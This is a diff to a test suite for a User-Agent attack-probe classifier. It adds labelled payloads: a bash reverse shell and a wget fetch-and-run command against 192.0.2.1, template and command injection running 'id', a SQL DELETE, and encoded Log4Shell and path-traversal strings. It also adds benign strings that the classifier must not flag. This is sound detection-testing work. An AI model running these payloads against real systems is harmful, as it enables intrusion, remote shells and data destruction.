@@ -40,6 +40,21 @@ describe('attack probes', () => {
       ['....//....//etc/hosts', 'path-traversal'],
       [`../${CHROME}`, 'path-traversal'],
       ['php://filter/convert.base64-encode/resource=index.php', 'path-traversal'],
+      // Lookups of Apache Commons Text (CVE-2022-42889), counted with Log4Shell's.
+      ['${url:UTF-8:https://acme.example/}', 'log4shell'],
+      ['${T(java.lang.Runtime).getRuntime().exec("id")}', 'template-injection'],
+      ['<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}', 'template-injection'],
+      ['{${phpinfo()}}', 'code-injection'],
+      ['a;id', 'command-injection'],
+      ['x|/usr/bin/id', 'command-injection'],
+      ['%0aid%0a', 'command-injection'],
+      ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'command-injection'],
+      ['wget http://192.0.2.1/x -O /tmp/x; chmod 777 /tmp/x; /tmp/x', 'command-injection'],
+      ['DELETE FROM users;--', 'sql-injection'],
+      // Percent-encoded once or twice, and the encodings servers once decoded wrongly.
+      ['1%27%20OR%20%271%27%3D%271', 'sql-injection'],
+      ['%2524%257Bjndi%253Aldap%253A%252F%252Facme.example%252Fa%257D', 'log4shell'],
+      ['..%c0%af..%c0%afetc%c0%afpasswd', 'path-traversal'],
     ];
     for (const [ua, kind] of cases) expect({ ua, id: idOf(ua) }).toEqual({ ua, id: `probe:${kind}` });
   });
@@ -61,6 +76,11 @@ describe('attack probes', () => {
       // Unfilled placeholders are broken clients, not attacks.
       'Mozilla/5.0 (Linux; Android 4.4.2; xx; ${ro.product.subbrand} ${ro.product.submodel} Build/E0005.00) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/30.0.0.0 Mobile Safari/537.36',
       '{{.custom_user_agent}}',
+      // A key=value app header whose keys look like commands after ";" ("ls=DAM").
+      'label=acmeapp;anv=Acme4.0.1;os=Android 4.0.4;man=HTC;cs=yes;is=yes;ls=DAM;',
+      // A script's function, not a bash definition; a tag-like word that is no tag.
+      'Mozilla/5.0 (compatible; Acme/1.0; +https://acme.example/?q=function(){return 1})',
+      'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0 <script-blocker>',
       // Quotes, "=" and "&" in app headers; "select", "union" and "script" as ordinary words.
       `${CHROME} [FBAN/FBIOS;FBAV/450.0.0.38.108;FBBV/560846037;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.1.2;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]`,
       'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 app="News" version="5.2"',
@@ -80,7 +100,7 @@ describe('attack probes', () => {
       }
       return least;
     };
-    for (const unit of ['union /*', "' or 1", '${', '() {', 'select ', '{{7', '<!--#', 'case when ', '../', "' + function("]) {
+    for (const unit of ['union /*', "' or 1", '${', '{', '() {', 'select ', '{{7', '<!--#', 'case when ', '../', "' + function(", '%25', '%3c', ';id', 'wget ']) {
       const header = (length: number) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
       cost(header(2_000));
       cost(header(16_000));
